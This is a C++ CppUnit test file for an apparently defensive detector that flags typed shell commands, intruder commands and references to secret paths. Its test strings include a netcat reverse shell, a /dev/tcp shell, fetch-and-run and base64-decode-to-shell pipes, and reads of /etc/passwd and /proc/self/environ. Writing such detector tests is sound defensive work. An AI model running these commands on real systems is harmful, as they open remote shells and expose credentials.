#include "structure/shell_typed.h"

#include <cppunit/TestFixture.h>
#include <cppunit/extensions/HelperMacros.h>

#include <string>
#include <string_view>

namespace errwatch {
namespace {

class ShellTypedTest : public CppUnit::TestFixture {
  CPPUNIT_TEST_SUITE(ShellTypedTest);
  CPPUNIT_TEST(Lines);
  CPPUNIT_TEST(Places);
  CPPUNIT_TEST(Intruders);
  CPPUNIT_TEST(Secrets);
  CPPUNIT_TEST_SUITE_END();

 private:
  static bool IsTyped(std::string_view text) { return IsTypedPlace(*NextShellPlace(text, 0)); }

 public:
  void Lines() {
    for (const std::string_view text : {"npm ci", "ls -la | sort", "./configure && make", "$ ls",
                                        "*/5 * * * * a", "run make", "ping 127.0.0.1", "cat /proc/cpuinfo"})
      CPPUNIT_ASSERT_MESSAGE(std::string(text), IsTypedCommandLine(text));
    for (const std::string_view text : {"x;id", "5 * 5 * 5", "the cat", "w"})
      CPPUNIT_ASSERT_MESSAGE(std::string(text), !IsTypedCommandLine(text));
  }

  void Places() {
    for (const std::string_view text : {"two words; x", "npm ci && x", "| a | b |", "One | ls -a | two"})
      CPPUNIT_ASSERT_MESSAGE(std::string(text), IsTyped(text));
    for (const std::string_view text :
         {"x; y", "two words;x", "two words' ; x", "| a", "x$(y)", "127.0.0.1 | x"})
      CPPUNIT_ASSERT_MESSAGE(std::string(text), !IsTyped(text));
  }

  void Intruders() {
    for (const std::string_view text : {"cat /etc/passwd", "wget http://192.0.2.1/x", "nc -e sh 192.0.2.1 99",
                                        "bash >& /dev/tcp/a/1", "echo a | base64 -d | sh"})
      CPPUNIT_ASSERT_MESSAGE(std::string(text), IsOfIntruder(text));
    for (const std::string_view text : {"wget http://127.0.0.1/x", "ping 192.0.2.1", "echo a | base64 -d",
                                        "curl https://a.example/ | sh", "x > /dev/null"})
      CPPUNIT_ASSERT_MESSAGE(std::string(text), !IsOfIntruder(text));
  }

  void Secrets() {
    CPPUNIT_ASSERT(NamesSecretPath("cat /etc/passwd") && NamesSecretPath("/proc/self/environ"));
    CPPUNIT_ASSERT(!NamesSecretPath("x > /dev/null") && !NamesSecretPath("/var/www/etc/x") &&
                   !NamesSecretPath("./etc/x"));
  }
};

CPPUNIT_TEST_SUITE_REGISTRATION(ShellTypedTest);

}  // namespace
}  // namespace errwatch
